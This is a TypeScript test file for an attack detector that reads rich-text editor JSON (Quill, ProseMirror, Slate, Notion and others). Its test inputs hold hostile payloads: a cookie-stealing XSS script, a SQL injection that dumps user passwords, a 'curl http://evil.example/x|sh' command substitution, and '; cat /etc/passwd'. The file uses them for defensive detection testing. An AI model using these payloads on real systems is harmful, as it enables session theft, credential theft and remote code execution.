import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectAttack } from '../detect-attack.ts';
import { findDocuments } from './documents.ts';

/** One text in runs, as each editor keeps it. */
const EDITORS: Readonly<Record<string, (...runs: readonly string[]) => unknown>> = {
  Quill: (...runs) => ({
    ops: runs.map((insert) => ({ insert, attributes: { code: true } })),
  }),
  ProseMirror: (...runs) => ({
    type: 'doc',
    content: [{ type: 'paragraph', content: runs.map((text) => ({ type: 'text', text })) }],
  }),
  Slate: (...runs) => [{ type: 'paragraph', children: runs.map((text) => ({ text, code: true })) }],
  Lexical: (...runs) => ({
    root: {
      type: 'root',
      children: [
        { type: 'paragraph', children: runs.map((text) => ({ type: 'text', style: '', text })) },
      ],
    },
  }),
  'Editor.js': (...runs) => ({
    version: '2.28.0',
    blocks: [{ type: 'paragraph', data: { text: runs.join('') } }],
  }),
  'Draft.js': (...runs) => ({
    blocks: [{ key: 'a', text: runs.join(''), type: 'unstyled', entityRanges: [], data: {} }],
    entityMap: {},
  }),
  Notion: (...runs) => ({
    operations: [
      {
        command: 'set',
        path: ['properties', 'title'],
        args: runs.map((run) => [run, [['c']]]),
      },
    ],
  }),
  'the interface of Notion': (...runs) => [
    {
      object: 'block',
      type: 'paragraph',
      paragraph: { rich_text: runs.map((content) => ({ type: 'text', text: { content } })) },
    },
  ],
  Feishu: (...runs) => ({
    elements: runs.map((content) => ({ text_run: { content, text_element_style: {} } })),
  }),
};

/** The text of what is one document and nothing else. */
function readDocument(node: unknown): string | undefined {
  return findDocuments(node).texts[0];
}

describe('findDocuments', () => {
  for (const [editor, write] of Object.entries(EDITORS)) {
    test(`puts the runs of ${editor} together`, () => {
      assert.equal(readDocument(write('run ', 'npm test', ' first')), 'run npm test first\n');
    });

    test(`an attack in a document of ${editor} is found`, () => {
      for (const attack of [
        ['<script>alert(document.cookie)</script>'],
        ['<scr', 'ipt>alert(document.cookie)</script>'],
        ["1' union select user, password from users-- -"],
        ['$(curl http://evil.example/x|sh)'],
      ]) {
        const value = JSON.stringify({ id: 7, content: write(...attack) });
        assert.ok(detectAttack(value), value);
        assert.ok(detectAttack(JSON.stringify({ body: value })), value);
      }
    });

    test(`a command that a document of ${editor} tells about is none`, () => {
      const value = JSON.stringify(
        write('Install it first: ', '\nnpm install --save ad-block', '\nand see what it says.\n'),
      );
      assert.equal(detectAttack(value), null);
    });
  }

  test('reads the blocks of a document line by line, and leaves what nobody sees apart', () => {
    const document = readDocument({
      time: 1,
      blocks: [
        { type: 'list', data: { items: ['one', { content: 'two', items: [] }] } },
        { type: 'table', data: { content: [['three', 'four']] } },
        { type: 'raw', data: { html: '<hr>' } },
      ],
    });
    assert.equal(document, 'one\ntwo\nthree\nfour\n');
  });

  test('other JSON is no document', () => {
    for (const node of [
      [],
      {},
      { ops: [{ op: 'replace', path: '/a', value: 'b' }] },
      { ops: ['insert'] },
      { type: 'doc', content: 'text' },
      { blocks: [{ text: 'a' }] },
      [{ children: 'a' }],
      { content: [{ text: 'a' }] },
    ]) {
      assert.equal(readDocument(node), undefined);
    }
  });

  test('of a name that stands twice both values are read', () => {
    const value =
      '{"ops":[{"insert":"<script>alert(1)</script>","insert":"a long and ordinary text\\n"}]}';
    assert.ok(detectAttack(value));
  });

  test('a run of a document hides no text that is the same', () => {
    const attack = '; cat /etc/passwd';
    const ops = [{ insert: 'Never type this, or much is lost: ' }, { insert: attack }];
    assert.ok(detectAttack(JSON.stringify({ ops, text: attack })));
    assert.ok(detectAttack(JSON.stringify({ text: attack, body: { ops } })));
  });

  test('one that is too deep is read leaf by leaf', () => {
    let node: unknown = { text: 'a' };
    for (let depth = 0; depth < 40; depth++) node = { type: 'quote', children: [node] };
    assert.equal(readDocument([node]), undefined);
  });
});
